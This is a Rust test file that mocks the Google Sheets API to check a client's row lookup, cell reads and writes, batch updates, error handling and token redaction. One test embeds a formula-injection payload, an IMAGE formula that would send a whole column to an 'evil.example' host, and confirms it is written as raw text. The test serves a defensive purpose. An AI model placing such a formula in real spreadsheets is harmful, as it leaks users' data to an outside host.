use std::time::Duration;

use serde_json::json;
use wiremock::matchers::{body_partial_json, header, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::client::{GoogleSheetsClient, SheetsConfig, TokenSource};
use crate::error::SheetError;
use crate::gateway::{SheetConnector, SheetTable};

const SPREADSHEET: &str = "sheet-123";

fn config(uri: String, sheet_name: Option<&str>, token: TokenSource) -> SheetsConfig {
    SheetsConfig {
        api_url: uri,
        spreadsheet_id: SPREADSHEET.to_owned(),
        sheet_name: sheet_name.map(str::to_owned),
        timeout: Duration::from_secs(5),
        token,
    }
}

fn client(server: &MockServer, sheet_name: Option<&str>) -> GoogleSheetsClient {
    GoogleSheetsClient::new(config(
        server.uri(),
        sheet_name,
        TokenSource::Static("test-token".to_owned()),
    ))
    .unwrap()
}

async fn mount_meta(server: &MockServer, titles: &[&str]) {
    let sheets: Vec<_> = titles.iter().map(|t| json!({"properties": {"title": t}})).collect();
    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}")))
        .and(query_param("fields", "sheets.properties.title"))
        .and(header("Authorization", "Bearer test-token"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "sheets": sheets })))
        .mount(server)
        .await;
}

async fn open(server: &MockServer) -> Box<dyn SheetTable> {
    mount_meta(server, &["Overview", "Members"]).await;
    client(server, Some("Members")).connect().await.unwrap()
}

#[tokio::test]
async fn test_find_row_in_key_column() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!E:E")))
        .and(query_param("majorDimension", "COLUMNS"))
        .and(header("Authorization", "Bearer test-token"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "range": "Members!E1:E5",
            "majorDimension": "COLUMNS",
            "values": [["normalized_name", "", "JOHN ROE", "JANE SMITH", "JANE SMITH"]]
        })))
        .mount(&server)
        .await;

    assert_eq!(table.find_row_by_key("JANE SMITH", 5).await.unwrap(), Some(4));
    assert_eq!(table.find_row_by_key("JOHN DOE", 5).await.unwrap(), None);
}

#[tokio::test]
async fn test_find_in_empty_column() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!E:E")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "range": "Members!E1:E1000",
            "majorDimension": "COLUMNS"
        })))
        .mount(&server)
        .await;

    assert_eq!(table.find_row_by_key("JANE SMITH", 5).await.unwrap(), None);
}

#[tokio::test]
async fn test_read_cell_value_and_empty_cell() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!B4")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "range": "Members!B4",
            "majorDimension": "ROWS",
            "values": [["ABC123"]]
        })))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!C4")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "range": "Members!C4",
            "majorDimension": "ROWS"
        })))
        .mount(&server)
        .await;

    assert_eq!(table.read_cell(4, 2).await.unwrap(), "ABC123");
    assert_eq!(table.read_cell(4, 3).await.unwrap(), "");
}

#[tokio::test]
async fn test_read_cell_server_error() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!C4")))
        .respond_with(ResponseTemplate::new(500).set_body_string("backend exploded"))
        .mount(&server)
        .await;

    let err = table.read_cell(4, 3).await.unwrap_err();
    assert!(matches!(err, SheetError::HttpStatus { code: 500, .. }));
    assert!(err.to_string().contains("backend exploded"));
}

#[tokio::test]
async fn test_write_cell_raw() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("PUT"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Members'!C4")))
        .and(query_param("valueInputOption", "RAW"))
        .and(header("Authorization", "Bearer test-token"))
        .and(body_partial_json(json!({"range": "'Members'!C4", "values": [["TRUE"]]})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"updatedCells": 1})))
        .expect(1)
        .mount(&server)
        .await;

    table.write_cell(4, 3, "TRUE").await.unwrap();
}

#[tokio::test]
async fn test_write_cells_single_batch_request() {
    let server = MockServer::start().await;
    let table = open(&server).await;

    Mock::given(method("POST"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values:batchUpdate")))
        .and(body_partial_json(json!({
            "valueInputOption": "RAW",
            "data": [
                {"range": "'Members'!C4", "values": [["TRUE"]]},
                {"range": "'Members'!D4", "values": [["jane@example.com"]]}
            ]
        })))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"totalUpdatedCells": 2})))
        .expect(1)
        .mount(&server)
        .await;

    table
        .write_cells(4, &[(3, "TRUE".to_owned()), (4, "jane@example.com".to_owned())])
        .await
        .unwrap();
}

#[tokio::test]
async fn test_write_cells_stores_contact_text_verbatim() {
    let server = MockServer::start().await;
    let table = open(&server).await;
    let formula = r#"=IMAGE("https://evil.example/?"&JOIN(",",B:B))"#;

    Mock::given(method("POST"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values:batchUpdate")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"totalUpdatedCells": 3})))
        .expect(1)
        .mount(&server)
        .await;

    table
        .write_cells(
            4,
            &[(3, "TRUE".to_owned()), (4, formula.to_owned()), (6, "00123".to_owned())],
        )
        .await
        .unwrap();

    let requests = server.received_requests().await.unwrap();
    let body: serde_json::Value = serde_json::from_slice(&requests[0].body).unwrap();
    assert_eq!(body["valueInputOption"], "RAW");
    assert_eq!(body["data"][1]["values"], json!([[formula]]));
    assert_eq!(body["data"][2]["values"], json!([["00123"]]));
}

#[tokio::test]
async fn test_connect_defaults_to_first_worksheet() {
    let server = MockServer::start().await;
    mount_meta(&server, &["Sheet1", "Archive"]).await;

    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}/values/'Sheet1'!C2")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"values": [["TRUE"]]})))
        .expect(1)
        .mount(&server)
        .await;

    let table = client(&server, None).connect().await.unwrap();
    assert_eq!(table.read_cell(2, 3).await.unwrap(), "TRUE");
}

#[tokio::test]
async fn test_connect_missing_worksheet() {
    let server = MockServer::start().await;
    mount_meta(&server, &["Sheet1"]).await;

    let err = client(&server, Some("Members")).connect().await.err().unwrap();
    assert!(matches!(err, SheetError::MissingWorksheet(ref t) if t == "Members"));
    assert!(err.is_connection());
}

#[tokio::test]
async fn test_connect_unauthorized_is_connection_error() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(format!("/v4/spreadsheets/{SPREADSHEET}")))
        .respond_with(ResponseTemplate::new(401).set_body_string("Request had invalid credentials"))
        .mount(&server)
        .await;

    let err = client(&server, None).connect().await.err().unwrap();
    assert!(matches!(err, SheetError::Connection(_)));
    assert!(err.to_string().contains("401"));
}

#[tokio::test]
async fn test_connect_unreachable_host() {
    let cfg = config(
        "http://127.0.0.1:9".to_owned(),
        None,
        TokenSource::Static("test-token".to_owned()),
    );
    let err = GoogleSheetsClient::new(cfg).unwrap().connect().await.err().unwrap();
    assert!(err.is_connection());
}

#[tokio::test]
async fn test_token_file_is_read_per_connect() {
    let server = MockServer::start().await;
    mount_meta(&server, &["Members"]).await;

    let dir = tempfile::TempDir::new().unwrap();
    let token_path = dir.path().join("token");
    std::fs::write(&token_path, "test-token\n").unwrap();

    let client = GoogleSheetsClient::new(config(
        server.uri(),
        Some("Members"),
        TokenSource::File(token_path.clone()),
    ))
    .unwrap();
    assert!(client.connect().await.is_ok());

    std::fs::write(&token_path, "rotated-token").unwrap();
    let err = client.connect().await.err().unwrap();
    assert!(matches!(err, SheetError::Connection(_)));
}

#[tokio::test]
async fn test_missing_token_file() {
    let dir = tempfile::TempDir::new().unwrap();
    let cfg = config(
        "http://127.0.0.1:9".to_owned(),
        None,
        TokenSource::File(dir.path().join("absent")),
    );
    let err = GoogleSheetsClient::new(cfg).unwrap().connect().await.err().unwrap();
    assert!(matches!(err, SheetError::Credentials(_)));
}

#[test]
fn test_debug_redacts_token() {
    let cfg = config(
        "http://localhost".to_owned(),
        None,
        TokenSource::Static("super-secret".to_owned()),
    );
    let rendered = format!("{:?} {:?}", cfg, GoogleSheetsClient::new(cfg.clone()).unwrap());
    assert!(!rendered.contains("super-secret"));
}
